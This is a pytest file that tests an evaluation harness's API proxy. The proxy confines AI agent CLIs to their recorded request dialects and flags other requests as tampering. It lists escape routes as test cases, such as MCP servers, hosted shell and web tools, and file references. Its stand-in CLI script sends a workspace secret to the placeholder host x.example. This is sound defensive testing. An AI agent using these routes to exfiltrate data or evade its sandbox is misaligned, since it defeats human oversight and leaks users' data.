"""The jail's API forward reads every request (issue 50): each executor's dialect allows what its
pinned CLI was recorded sending (tests/data/agents/requests/, recorded against tests/fakes)
and nothing else. A request with `mcp_servers`, a server or hosted tool, a Files API or MCP
beta, a file by id or URL, a stored or background response never reaches the upstream: the
agent gets a 4xx and the attempt's log a `tampering` record, which makes the attempt an error.
A header naming the client's address is never forwarded. The run's admission hook may refuse
a request (not tampering), and its usage hook hears each reply's model and tokens.

The table tests are pure (the dialect's check on a request); the rest go through the real
proxy to a loopback fake that records what reached it, and end to end through a stand-in CLI
in the jail."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from skill_eval.core.model import ExecutionRequest, Task
from skill_eval.executors.agents.chat_dialect import CHAT
from skill_eval.executors.agents.codex import CodexExecutor
from skill_eval.executors.agents.config import CodexConfig
from skill_eval.executors.agents.responses_dialect import RESPONSES
from skill_eval.executors.claude.config import ClaudeCliConfig
from skill_eval.executors.claude.dialect import MESSAGES
from skill_eval.executors.claude.executor import ClaudeCodeExecutor
from skill_eval.executors.claude.stream import StreamReader
from skill_eval.executors.tool_check import checked
from skill_eval.jail.api_log import ApiLog
from skill_eval.jail.api_proxy import ApiProxy
from skill_eval.jail.bubblewrap import problem as jail_problem
from skill_eval.jail.wire import ApiDialect, ApiRequest, Refusal, ReplyUsage
from tests.fakes import fake_claude, lying_agents
from tests.fakes.anthropic_server import FakeAnthropic
from tests.fakes.openai_server import FakeOpenAI
from tests.helpers import REPO
from tests.test_api_proxy_bounds import exchange

RECORDED = REPO / "tests" / "data" / "agents" / "requests"
SAMPLES: dict[str, ApiDialect] = {
    "claude-2.1.330": MESSAGES,
    "claude-2.1.330-login": MESSAGES,
    "opencode-1.18.33": CHAT,
    "codex-0.171.0": RESPONSES,
}
needs_jail = pytest.mark.skipif(jail_problem() is not None, reason=str(jail_problem()))


def recorded(name: str) -> dict[str, Any]:
    return json.loads((RECORDED / f"{name}.json").read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def check(dialect: ApiDialect, sample: dict[str, Any]) -> Refusal | None:
    if sample["query"] not in dialect.queries:
        return Refusal("query")
    request = ApiRequest(
        sample["method"], sample["path"], sample["query"], sample["headers"], sample["body"]
    )
    return dialect.check(request)


@pytest.mark.parametrize("name", SAMPLES)
def test_what_each_pinned_cli_sends_passes_its_dialect(name: str) -> None:
    sample = recorded(name)
    assert sample["path"] in SAMPLES[name].routes
    assert check(SAMPLES[name], sample) is None


Edit = Callable[[dict[str, Any]], None]


def body(edit: Callable[[dict[str, Any]], None]) -> Edit:
    return lambda sample: edit(sample["body"])


def header(name: str, value: str) -> Edit:
    return lambda sample: sample["headers"].__setitem__(name, value)


def add_tool(tool: dict[str, Any]) -> Edit:
    return body(lambda b: b["tools"].append(tool))


def last_content(sample_body: dict[str, Any]) -> list[Any]:
    """The content list of the Messages body's last message that has one."""
    return next(
        m["content"] for m in reversed(sample_body["messages"]) if isinstance(m["content"], list)
    )


BETA = "claude-code-20250219,interleaved-thinking-2025-05-14"
MESSAGES_ATTACKS: dict[str, tuple[Edit, str]] = {
    "mcp_servers": (
        body(
            lambda b: b.update(
                mcp_servers=[{"type": "url", "url": "https://x.example/mcp", "name": "x"}]
            )
        ),
        "holds 'mcp_servers'",
    ),
    "web fetch": (add_tool({"type": "web_fetch_20250910", "name": "web_fetch"}), "server tool"),
    "web search": (add_tool({"type": "web_search_20250305", "name": "web_search"}), "server tool"),
    "code execution": (
        add_tool({"type": "code_execution_20250825", "name": "code_execution"}),
        "server tool",
    ),
    "bash server tool": (add_tool({"type": "bash_20250124", "name": "bash"}), "server tool"),
    "text editor": (
        add_tool({"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}),
        "server tool",
    ),
    "MCP toolset": (add_tool({"type": "mcp_toolset", "mcp_server_name": "x"}), "server tool"),
    "a tool's extra field": (
        body(lambda b: b["tools"][0].update(allowed_callers=["code_execution_20250825"])),
        "holds 'allowed_callers'",
    ),
    "Files API beta": (header("anthropic-beta", f"{BETA},files-api-2025-04-14"), "files-api"),
    "MCP connector beta": (header("anthropic-beta", "mcp-client-2025-04-04"), "mcp-client"),
    "a file by id": (
        body(
            lambda b: last_content(b).append(
                {"type": "document", "source": {"type": "file", "file_id": "file_011"}}
            )
        ),
        "holds 'file_id'",
    ),
    "an image by URL": (
        body(
            lambda b: last_content(b).append(
                {"type": "image", "source": {"type": "url", "url": "https://x.example/a.png"}}
            )
        ),
        "holds 'url'",
    ),
    "a container upload": (
        body(lambda b: last_content(b).append({"type": "container_upload", "file_id": "f"})),
        "container_upload",
    ),
    "a container": (body(lambda b: b.update(container="container_01")), "holds 'container'"),
    "a server tool's result": (
        body(
            lambda b: last_content(b).append(
                {"type": "web_fetch_tool_result", "tool_use_id": "x", "content": {}}
            )
        ),
        "web_fetch_tool_result",
    ),
    "another context edit": (
        body(
            lambda b: b["context_management"]["edits"].append({"type": "clear_tool_uses_20250919"})
        ),
        "clear_tool_uses",
    ),
    "another API version": (header("anthropic-version", "2099-01-01"), "2099-01-01"),
}
CHAT_ATTACKS: dict[str, tuple[Edit, str]] = {
    "a custom tool": (add_tool({"type": "custom", "custom": {"name": "x"}}), "tools[10]"),
    "web search options": (body(lambda b: b.update(web_search_options={})), "web_search_options"),
    "a stored completion": (body(lambda b: b.update(store=True)), "holds 'store'"),
    "audio": (body(lambda b: b.update(modalities=["audio"])), "modalities"),
    "an image by URL": (
        body(
            lambda b: b["messages"].append(
                {
                    "role": "user",
                    "content": [{"type": "image_url", "image_url": {"url": "https://x/a.png"}}],
                }
            )
        ),
        "image_url",
    ),
    "a file by id": (
        body(
            lambda b: b["messages"].append(
                {"role": "user", "content": [{"type": "file", "file": {"file_id": "file-1"}}]}
            )
        ),
        "'file'",
    ),
}
RESPONSES_ATTACKS: dict[str, tuple[Edit, str]] = {
    "web search": (add_tool({"type": "web_search"}), "hosted tool"),
    "file search": (add_tool({"type": "file_search", "vector_store_ids": ["vs_1"]}), "hosted tool"),
    "code interpreter": (
        add_tool({"type": "code_interpreter", "container": {"type": "auto"}}),
        "hosted",
    ),
    "computer use": (add_tool({"type": "computer_use_preview"}), "hosted tool"),
    "mcp": (
        add_tool({"type": "mcp", "server_url": "https://x.example", "server_label": "x"}),
        "hosted",
    ),
    "image generation": (add_tool({"type": "image_generation"}), "hosted tool"),
    "a hosted shell": (add_tool({"type": "local_shell"}), "hosted tool"),
    "a tool search on the server": (
        body(
            lambda b: next(t for t in b["tools"] if t["type"] == "tool_search").update(
                execution="server"
            )
        ),
        "execution",
    ),
    "a stored response": (body(lambda b: b.update(store=True)), "store: false"),
    "store left to its default": (body(lambda b: b.pop("store")), "store: false"),
    "a background response": (body(lambda b: b.update(background=True)), "holds 'background'"),
    "a previous response": (
        body(lambda b: b.update(previous_response_id="resp_1")),
        "previous_response_id",
    ),
    "a conversation": (body(lambda b: b.update(conversation="conv_1")), "holds 'conversation'"),
    "a prompt template": (body(lambda b: b.update(prompt={"id": "pmpt_1"})), "holds 'prompt'"),
    "an item reference": (
        body(lambda b: b["input"].append({"type": "item_reference", "id": "msg_1"})),
        "item_reference",
    ),
    "a file by id": (
        body(
            lambda b: b["input"].append(
                {
                    "role": "user",
                    "type": "message",
                    "content": [{"type": "input_file", "file_id": "f"}],
                }
            )
        ),
        "holds 'file_id'",
    ),
    "an image by URL": (
        body(
            lambda b: b["input"].append(
                {
                    "role": "user",
                    "type": "message",
                    "content": [{"type": "input_image", "image_url": "https://x.example/a.png"}],
                }
            )
        ),
        "not inline data",
    ),
    "search results included": (
        body(lambda b: b["include"].append("file_search_call.results")),
        "file_search_call",
    ),
    "an include that is no name": (body(lambda b: b["include"].append({"x": 1})), "include"),
    "another beta feature": (
        header("x-codex-beta-features", "remote_compaction_v2,other"),
        "other",
    ),
}
ATTACKS = [
    *(
        pytest.param("claude-2.1.330", *case, id=f"messages: {k}")
        for k, case in MESSAGES_ATTACKS.items()
    ),
    *(pytest.param("opencode-1.18.33", *case, id=f"chat: {k}") for k, case in CHAT_ATTACKS.items()),
    *(
        pytest.param("codex-0.171.0", *case, id=f"responses: {k}")
        for k, case in RESPONSES_ATTACKS.items()
    ),
]


@pytest.mark.parametrize(("name", "edit", "said"), ATTACKS)
def test_what_no_pinned_cli_sends_is_refused_as_tampering(name: str, edit: Edit, said: str) -> None:
    sample = copy.deepcopy(recorded(name))
    edit(sample)
    refusal = check(SAMPLES[name], sample)
    assert refusal is not None and refusal.tampering and 400 <= refusal.status < 500
    assert said in refusal.reason, refusal.reason


# -- through the real forward -------------------------------------------------------------------


def raw(sample: dict[str, Any], key: str) -> bytes:
    """The recorded request as the CLI would send it through the jail's forward."""
    data = json.dumps(sample["body"]).encode()
    headers = {**sample["headers"], "content-length": str(len(data))}
    headers["x-api-key" if "anthropic-version" in headers else "authorization"] = key
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    path = sample["path"] + (f"?{sample['query']}" if sample["query"] else "")
    return f"POST {path} HTTP/1.1\r\nhost: x\r\n{head}connection: close\r\n\r\n".encode() + data


FORWARD_ATTACKS = [
    ("claude-2.1.330", "mcp_servers"),
    ("claude-2.1.330", "web fetch"),
    ("claude-2.1.330", "Files API beta"),
    ("claude-2.1.330", "a file by id"),
    ("codex-0.171.0", "web search"),
    ("codex-0.171.0", "code interpreter"),
    ("codex-0.171.0", "a previous response"),
    ("opencode-1.18.33", "an image by URL"),
]


@pytest.mark.parametrize(("name", "attack"), FORWARD_ATTACKS)
def test_a_refused_request_never_reaches_the_upstream_and_is_tampering(
    name: str, attack: str
) -> None:
    dialect = SAMPLES[name]
    table = {MESSAGES: MESSAGES_ATTACKS, CHAT: CHAT_ATTACKS, RESPONSES: RESPONSES_ATTACKS}
    edit, said = table[dialect][attack]
    sample = copy.deepcopy(recorded(name))
    edit(sample)
    fake = FakeAnthropic if dialect is MESSAGES else FakeOpenAI
    with fake(default="fine") as server:
        url = server.base_url if dialect is MESSAGES else f"{server.base_url}/v1"
        proxy = ApiProxy(url, dialect.credentials("sk-REAL"), dialect)
        log = ApiLog()
        reply = exchange(proxy.observed(log), raw(sample, proxy.placeholder))
        assert server.requests == []  # nothing of it went upstream, with the key or without
    assert reply.startswith(b"HTTP/1.1 400") and said.encode() in reply
    assert log.tampered == 1 and log.record()["api_tampering"] == 1 and log.requests == 0
    problem = checked(StreamReader(), log) or ""
    assert problem.startswith("the API forward refused a request the agent's CLI never sends: ")
    assert said in problem


@pytest.mark.parametrize("name", SAMPLES)
def test_the_recorded_request_goes_through_with_the_key_and_no_client_address(name: str) -> None:
    dialect = SAMPLES[name]
    sample = recorded(name)
    sample["headers"].update(
        {
            "x-forwarded-for": "10.0.0.7",
            "forwarded": "for=10.0.0.7",
            "x-real-ip": "10.0.0.7",
            "via": "1.1 jail",
            "cf-connecting-ip": "10.0.0.7",
            "x-unknown": "1",
        }
    )
    fake = FakeAnthropic if dialect is MESSAGES else FakeOpenAI
    with fake(default="fine") as server:
        url = server.base_url if dialect is MESSAGES else f"{server.base_url}/v1"
        proxy = ApiProxy(url, dialect.credentials("sk-REAL"), dialect)
        log = ApiLog()
        reply = exchange(proxy.observed(log), raw(sample, proxy.placeholder))
        (seen,) = server.requests
    assert reply.startswith(b"HTTP/1.1 200"), reply[:300]
    assert log.tampered == 0 and log.requests == 1
    assert seen.body == sample["body"]
    names = set(seen.headers)
    assert not names & {"x-forwarded-for", "forwarded", "x-real-ip", "via", "cf-connecting-ip"}
    sender = {"host", "content-length", "accept-encoding"}  # the proxy's own (identity)
    assert "x-unknown" not in names and names - sender <= dialect.headers
    assert proxy.placeholder not in json.dumps(seen.headers)


class Brittle(ApiDialect):
    """A plugin's dialect whose check and reply reader fail on what they did not foresee."""

    routes = frozenset({"/v1/messages"})
    headers = frozenset({"content-type"})

    def check(self, request: ApiRequest) -> Refusal | None:
        return None if request.body["model"] else None  # KeyError without a model

    def replies(self) -> Any:
        return Broken()


class Broken:
    def event(self, event: Any) -> list[Any]:
        raise ValueError("not foreseen")

    def done(self) -> list[Any]:
        return []

    def whole(self, body: Any) -> list[Any]:
        raise ValueError("not foreseen")

    def usage(self) -> ReplyUsage | None:
        raise ValueError("not foreseen")


def test_a_check_or_reader_that_fails_refuses_or_leaves_the_reply_unread() -> None:
    """The mechanism never lets a dialect's own failure through: a check that raises is a
    refusal (tampering), a reader that raises leaves its reply unread (then the transcript
    cannot be checked), and the reply still reaches the agent whole."""
    with FakeAnthropic(default="fine") as server:
        proxy = ApiProxy(server.base_url, {}, Brittle(), on_usage=lambda usage: None)
        log = ApiLog()
        head = "POST /v1/messages HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: "
        refused = exchange(proxy.observed(log), f"{head}2\r\n\r\n{{}}".encode())
        assert server.requests == []
        said = [{"role": "user", "content": "hi"}]
        good = json.dumps({"model": "m", "max_tokens": 5, "messages": said})
        relayed = exchange(proxy.observed(log), f"{head}{len(good)}\r\n\r\n{good}".encode())
    assert refused.startswith(b"HTTP/1.1 400") and b"could not be checked (KeyError)" in refused
    assert log.tampered == 1
    assert relayed.startswith(b"HTTP/1.1 200") and relayed.endswith(b"}")  # whole, unread
    assert log.unread_replies == 1


# -- the run's own hooks ------------------------------------------------------------------------


def test_the_admission_hook_refuses_without_calling_it_tampering() -> None:
    sample = recorded("claude-2.1.330")
    asked: list[ApiRequest] = []

    def spent(request: ApiRequest) -> Refusal | None:
        asked.append(request)
        return Refusal(
            "the run's budget is spent", status=429, kind="rate_limit_error", tampering=False
        )

    with FakeAnthropic(default="fine") as server:
        proxy = ApiProxy(server.base_url, {"x-api-key": "sk-REAL"}, MESSAGES, admit=spent)
        log = ApiLog()
        reply = exchange(proxy.observed(log), raw(sample, proxy.placeholder))
        assert server.requests == []
    assert reply.startswith(b"HTTP/1.1 429") and b"budget is spent" in reply
    assert [r.body["model"] for r in asked] == [sample["body"]["model"]]
    assert log.tampered == 0 and log.refusals == 1
    assert checked(StreamReader(), log) is None


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("name", ["claude-2.1.330", "opencode-1.18.33", "codex-0.171.0"])
def test_the_usage_hook_hears_each_replys_model_and_tokens(name: str, stream: bool) -> None:
    dialect = SAMPLES[name]
    sample = copy.deepcopy(recorded(name))
    sample["body"]["stream"] = stream
    heard: list[ReplyUsage] = []
    fake = FakeAnthropic if dialect is MESSAGES else FakeOpenAI
    with fake(default="fine") as server:
        url = server.base_url if dialect is MESSAGES else f"{server.base_url}/v1"
        proxy = ApiProxy(url, dialect.credentials("k"), dialect, on_usage=heard.append)
        log = ApiLog()
        exchange(proxy.observed(log), raw(sample, proxy.placeholder))
        exchange(proxy, raw(sample, proxy.placeholder))  # unobserved: the hook still hears it
        (said, *_) = [r.reply for r in server.requests]
    assert len(heard) == 2 and log.usages == heard[:1]
    usage = heard[0]
    assert usage.model == sample["body"]["model"]
    assert usage.input_tokens > 0 and usage.output_tokens > 0, (usage, said)


# -- end to end: a CLI in the jail sends what its pinned one never does -------------------------

MCP_CLAUDE = r"""
import json, os, sys, urllib.request
if "--version" in sys.argv:
    print("2.1.330 (Claude Code)"); sys.exit(0)
sys.stdin.read()
body = {"model": "m", "max_tokens": 99, "messages": [{"role": "user", "content": "go"}],
        "mcp_servers": [{"type": "url", "url": "https://x.example/mcp", "name": "x",
                         "authorization_token": open("secret.txt").read()}]}
request = urllib.request.Request(
    os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", data=json.dumps(body).encode(),
    headers={"x-api-key": os.environ.get("ANTHROPIC_API_KEY", ""),
             "anthropic-beta": "mcp-client-2025-04-04", "content-type": "application/json"})
try:
    urllib.request.urlopen(request, timeout=30)
    said = "sent"
except urllib.error.HTTPError as exc:
    said = f"refused {exc.code}"
def say(event): print(json.dumps(event), flush=True)
say({"type": "system", "subtype": "init", "session_id": "s"})
say({"type": "result", "subtype": "success", "is_error": False, "result": said,
     "usage": {"input_tokens": 1, "output_tokens": 1}, "total_cost_usd": 0.0})
"""


def _request(tmp_path: Path) -> ExecutionRequest:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "secret.txt").write_text("workspace data")
    task = Task(id="t1", prompt="go", judge={"type": "contains", "expected": ["x"]})
    return ExecutionRequest(
        task=task,
        arm="baseline",
        attempt=0,
        skill=None,
        timeout_seconds=60,
        workspace=str(workspace),
    )


@needs_jail
def test_an_attempt_whose_cli_asks_for_an_mcp_server_is_tampering(tmp_path: Path) -> None:
    binary = fake_claude.install(tmp_path / "bin", MCP_CLAUDE)
    with FakeAnthropic(default="fine") as server:
        config = ClaudeCliConfig(
            claude_bin=binary, base_url=server.base_url, env={"ANTHROPIC_API_KEY": "sk-test"}
        )
        result = ClaudeCodeExecutor(config).run(_request(tmp_path))
        assert server.requests == []
    assert result.failure.message.startswith(
        "tampering: the API forward refused a request the agent's CLI never sends: "
        "POST /v1/messages: 400"
    )
    assert "mcp-client-2025-04-04" in result.failure.message  # the header is read first
    assert result.meta["error_type"] == "tampering" and result.meta["api_tampering"] == 1
    assert not result.failure.retry and result.transcript == ()


@needs_jail
def test_an_attempt_whose_cli_offers_a_hosted_tool_is_tampering(tmp_path: Path) -> None:
    binary = lying_agents.install(tmp_path / "bin", "codex", hosted_tool={"type": "web_search"})
    with FakeOpenAI(default="fine") as server:
        url = f"{server.base_url}/v1"
        executor = CodexExecutor(CodexConfig(codex_bin=binary, base_url=url, model="m"))
        result = executor.run(_request(tmp_path))
        assert server.requests == []
    assert result.failure.message.startswith(
        "tampering: the API forward refused a request the agent's CLI never sends: "
        "POST /v1/responses: 400 (tools[0] is a hosted tool or unknown (web_search))"
    )
    assert result.meta["api_tampering"] == 1 and result.transcript == ()


def test_a_jailed_claude_code_run_does_not_offer_its_server_side_web_search() -> None:
    """Claude Code's WebSearch sends a request with the `web_search_20250305` server tool
    (recorded): the forward refuses it, so a jailed run says so before any call instead."""
    from skill_eval.executors.claude.tools import BashConfinement, ToolPlanError, plan_tools

    jailed = BashConfinement(jailed=True, landlock=True)
    with pytest.raises(ToolPlanError, match=r"task 't' allows WebSearch, .* server tool"):
        plan_tools(("Read", "WebSearch"), installed=False, bash=jailed, task_id="t")
    unjailed = plan_tools(("WebSearch",), installed=False, bash=BashConfinement(), task_id="t")
    assert unjailed.tools == ("WebSearch",)
    assert "WebFetch" in plan_tools(("WebFetch",), installed=False, bash=jailed).tools
